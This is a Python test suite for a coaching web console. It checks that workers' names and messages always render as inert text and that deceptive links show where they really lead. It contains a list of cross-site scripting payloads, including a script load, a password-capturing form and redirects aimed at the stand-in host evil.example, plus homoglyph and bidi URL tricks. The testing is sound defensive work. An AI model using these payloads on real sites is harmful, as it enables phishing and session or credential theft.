"""Promise: whatever a worker writes or is called is text on a coach's screen, and nothing else."""

from html.parser import HTMLParser

import httpx
import pytest
from sqlalchemy import update

from api.console.live.open_page import LivePage
from api.console.live.versions import Versions
from api.console.plainly import plainly
from api.console.signing_in.sessions import CoachSessions
from api.conversations.tables import Message
from api.workers.tables import Worker
from tests.console.coaches import Asked, Console

PAYLOADS = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script\x0dsrc=x>",
    "<img src=x onerror=alert(1)>",
    "<img/src=`x`onerror=alert(1)>",
    "<img src=\"x\" onerror='alert(1)'",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>">',
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<body onload=alert(1)>",
    "<a href=javascript:alert(1)>klik</a>",
    "<a href='https://uwv.nl@evil.example'>UWV</a>",
    "[klik](javascript:alert(1))",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "<form action=//evil.example><input name=password><button>Inloggen</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</blockquote></dl><h1>Nep</h1>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<style>@import '//evil.example/x.css'</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    '"><script>alert(1)</script>',
    "' onmouseover='alert(1)",
    '" onmouseover="alert(1)" x="',
    "--><script>alert(1)</script><!--",
    "{{7*7}}${7*7}#{7*7}{% for x in y %}",
    "&lt;script&gt;alert(1)&lt;/script&gt;&#60;b&#62;",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "]]><script>alert(1)</script>",
]
assert len(PAYLOADS) >= 40


# What the console itself puts around and after an address, to show where it leads.
ADDRESSES = ("address", "leads-to")


class Shape(HTMLParser):
    """The elements and attributes of a page (but for addresses), and the text between them."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[str] = []
        self.attributes: list[tuple[str, str]] = []
        self.text = ""
        self.open_addresses = 0
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.attributes += [(name, value or "") for name, value in attrs]
        if tag == "bdi" and dict(attrs).get("class") in ADDRESSES:
            self.open_addresses += 1
            return
        self.elements.append(f"{tag} {sorted(name for name, _ in attrs)}")

    def handle_endtag(self, tag: str) -> None:
        if tag == "bdi" and self.open_addresses:
            self.open_addresses -= 1
            return
        self.elements.append(f"/{tag}")

    def handle_data(self, data: str) -> None:
        self.text += data

    @property
    def leads_to(self) -> set[str]:
        """Where the page's links, forms and files point."""
        return {value for name, value in self.attributes if name in ("href", "src", "action")}


async def rewrite(console: Console, asked: Asked, name: str, text: str) -> None:
    """Let the worker be called this, and have said this all along."""
    spoken = (Message.conversation_id == asked.conversation_id) & (Message.speaker == "worker")
    async with console.parts.database.transaction() as db:
        await db.execute(update(Worker).values(name=name))
        await db.execute(update(Message).where(spoken).values(text=text))


async def shapes(sanne: httpx.AsyncClient, asked: Asked, text: str) -> list[Shape]:
    """Each page on which a coach may meet the worker's words, or their own."""
    pages = [await sanne.get("/console"), await sanne.get(asked.page)]
    if 'id="reply"' in pages[1].text:
        for step in ("review", "edit"):
            form = {"who": text, "what": text, "step": step}
            pages.append(await sanne.post(f"{asked.page}/close", data=form))
    return [Shape(page.text) for page in pages]


async def test_name_and_text_stay_text_on_every_page(console: Console) -> None:
    asked = await console.asks()
    async with console.coach() as sanne:
        for _ in ("waiting", "taken"):
            await rewrite(console, asked, "Naam", "Tekst")
            expected = await shapes(sanne, asked, "Tekst")
            for payload in PAYLOADS:
                await rewrite(console, asked, payload, payload)
                for shape, plain in zip(await shapes(sanne, asked, payload), expected, strict=True):
                    assert shape.elements == plain.elements, payload
                    assert payload.split()[0] in shape.text
                    assert shape.leads_to == plain.leads_to
            await sanne.post(f"{asked.page}/claim")


async def test_live_updates_are_as_safe_as_pages(console: Console) -> None:
    known = CoachSessions(console.parts.database, 30)
    async with console.taken() as (sanne, asked):
        on_duty = await known.resume(sanne.cookies["leermaat_coach"])

        async def look() -> list[list[str]]:
            page = LivePage(Versions({"mine": "", "sheet": ""}), asked.escalation_id, 0)
            async with console.parts.database.reading() as db:
                return [Shape(update.html).elements for update in await page.look(db, on_duty)]

        await rewrite(console, asked, "Naam", "Tekst")
        expected = await look()
        assert len(expected) == 2
        for payload in PAYLOADS:
            await rewrite(console, asked, payload, payload)
            assert await look() == expected


# What a worker typed, as a coach reads it: {…} is what the console adds. Never a link.
LINKS = [
    ("https://www.uwv.nl", "https://www.uwv.nl"),
    ("zie https://uwv.nl/ww?x=1#a, toch", "zie https://uwv.nl/ww?x=1#a, toch"),
    ("(https://uwv.nl/a)", "(https://uwv.nl/a)"),
    ("HTTPS://UWV.NL/A", "HTTPS://UWV.NL/A"),
    ("https://uwv.nl:8443/x", "https://uwv.nl:8443/x"),
    ("http://uwv.nl", "http://uwv.nl"),
    ("www.uwv.nl en ik@uwv.nl", "www.uwv.nl en ik@uwv.nl"),
    ("javascript:alert(1)", "javascript:alert(1)"),
    ("data:text/html,x", "data:text/html,x"),
    ("https://uwv.nl@evil.example", "https://uwv.nl@evil.example {evil.example}"),
    ("https://uwv.nl:pw@evil.example/x", "https://uwv.nl:pw@evil.example/x {evil.example}"),
    ("https://uwv.nl%40evil.example", "https://uwv.nl%40evil.example {}"),
    ("https://uwv.nl.evil.example", "https://uwv.nl.evil.example"),
    ("https://evil.example\\@uwv.nl", "https://evil.example\\@uwv.nl {evil.example}"),
    ("https:\\\\evil.example", "https:\\\\evil.example {evil.example}"),
    ("https:evil.example", "https:evil.example {evil.example}"),
    ("https:///evil.example", "https:///evil.example {evil.example}"),
    ("https://evil.example/uwv.nl", "https://evil.example/uwv.nl"),
    ("https://uwv\u3002nl", "https://uwv\u3002nl {uwv.nl}"),
    ("https://\uff55\uff57\uff56.nl", "https://\uff55\uff57\uff56.nl {uwv.nl}"),
    ("https://uw\u0475.nl", "https://uw\u0475.nl {xn--uw-5qc.nl}"),
    ("uw\u0475.nl", "uw\u0475.nl {xn--uw-5qc.nl}"),
    ("https://xn--uw-5qc.nl", "https://xn--uw-5qc.nl"),
    ("https://t.me.example/leermaat", "https://t.me.example/leermaat"),
    ("https://evil.example/\u202enl.vwu", "https://evil.example/nl.vwu"),
    ("https://uwv.nl\u2066.evil.example", "https://uwv.nl.evil.example"),
    ("https://uw\u200bv.nl", "https://uwv.nl"),
    ("https://caf\u00e9.example", "https://caf\u00e9.example {xn--caf-dma.example}"),
    ("priv\u00e9.Ik wil meer", "priv\u00e9.Ik wil meer"),
]
assert len(LINKS) >= 25


@pytest.mark.parametrize(("typed", "read"), LINKS)
def test_address_is_text_that_shows_where_it_leads(typed: str, read: str) -> None:
    shape = Shape(plainly(typed))
    shown = shape.text.replace("gaat naar ", "{").replace("geen echt adres", "{")
    parts = read.partition("{")
    expected = parts[0] + parts[1] + parts[2].removesuffix("}")
    assert shown == expected
    assert shape.elements == []
    assert shape.leads_to == set()


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_but_addresses_gets_an_element(payload: str) -> None:
    assert Shape(plainly(payload)).elements == []
